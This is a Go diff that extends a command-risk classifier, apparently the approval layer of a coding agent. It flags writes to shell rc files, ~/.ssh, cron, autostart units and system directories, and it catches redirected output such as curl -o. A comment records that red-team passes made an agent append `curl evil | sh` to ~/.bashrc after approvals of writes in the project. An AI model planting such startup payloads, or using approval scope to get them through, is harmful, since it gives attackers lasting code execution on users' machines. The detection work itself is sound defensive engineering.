@@ -233,6 +233,68 @@ var copiers = set("cp", "mv", "install", "ln", "rsync")
 // creators make every operand (touch ~/.bashrc, mkdir -p /etc/x).
 var creators = set("touch", "mkdir", "mkfifo", "mknod")
 
+// WritesStartupMark marks a write to a file that runs, or says what runs,
+// when the person logs in, opens a shell, runs git, pip, npm or cargo, or
+// on a schedule: a shell's rc files, ~/.ssh, cron, systemd and autostart
+// units, the tools' user configuration, directories on PATH, Python's
+// site-packages. The eleventh and twelfth red-team passes appended
+// `curl evil | sh` to ~/.bashrc after approvals of writes in the project.
+const WritesStartupMark = "writes-startup"
+
+// startupFile reports whether writing p changes what runs later outside
+// this command: a dot file or dot directory of a home, ~/.config and
+// ~/.local/bin or lib, the system's /etc, /usr and /opt, cron's spools.
+func (w walker) startupFile(p string) bool {
+	switch {
+	case p == "" || harmlessSink(p):
+		return false
+	case strings.HasPrefix(p, "~"):
+		if w.home == "" {
+			return true
+		}
+		p = w.home + strings.TrimPrefix(p[1:], "")
+		if !strings.HasPrefix(p, "/") {
+			return true // ~user/…: another's home
+		}
+	case !strings.HasPrefix(p, "/"):
+		h := w.here()
+		if h == "" {
+			return false
+		}
+		p = path.Join(h, p)
+	}
+	p = path.Clean(p)
+	for _, d := range []string{"/etc/", "/usr/", "/opt/", "/var/spool/cron", "/Library/", "/System/", "/bin/", "/sbin/", "/lib/"} {
+		if strings.HasPrefix(p, d) || p+"/" == d {
+			return true
+		}
+	}
+	for _, home := range []string{w.home, homeOf(p)} {
+		if home == "" || !strings.HasPrefix(p, home+"/") {
+			continue
+		}
+		rest := strings.TrimPrefix(p, home+"/")
+		if strings.HasPrefix(rest, ".") || strings.HasPrefix(rest, "Library/LaunchAgents") {
+			return true // ~/.bashrc, ~/.ssh/…, ~/.config/…, ~/.local/bin/…
+		}
+	}
+	return false
+}
+
+// operandsIf returns the literal operands of args when cond holds.
+func operandsIf(cond bool, args []word) []string {
+	if !cond {
+		return nil
+	}
+	var out []string
+	for _, a := range args {
+		if a.lit && !strings.HasPrefix(a.text, "-") {
+			out = append(out, a.text)
+		}
+	}
+	return out
+}
+
 // anyOutside reports whether an operand lies outside the working
 // directory and /tmp.
 func (w walker) anyOutside(args []word) bool {
@@ -291,8 +353,24 @@ func (w walker) argMarks(prog string, args []word) []string {
 			marks = append(marks, "remote-host")
 		}
 	}
-	if copiers[prog] && last != "" && !isRemoteTarget(last) && w.outside(last) || creators[prog] && w.anyOutside(args) {
+	if copiers[prog] && last != "" && !isRemoteTarget(last) && w.outside(last) || (creators[prog] || prog == "tee") && w.anyOutside(args) {
 		marks = append(marks, "write-outside")
+	}
+	if !slices.Contains(marks, "write-outside") {
+		// An option's output outside the project (curl -o ~/.bashrc,
+		// sort -o ../Makefile) is a write outside as a copy is.
+		for _, p := range w.commandWrites(prog, args) {
+			if w.outside(p) {
+				marks = append(marks, "write-outside")
+				break
+			}
+		}
+	}
+	for _, p := range append(w.commandWrites(prog, args), operandsIf(prog == "tee" || creators[prog], args)...) {
+		if w.startupFile(p) {
+			marks = append(marks, WritesStartupMark)
+			break
+		}
 	}
 	if copiers[prog] && last != "" && w.writesConfig(last) || removers[prog] && w.anyRunsConfig(args) || prog == "tee" && w.anyRunsConfig(args) {
 		// .git/config, .git/hooks/*, .gitattributes, node_modules/.bin/*,
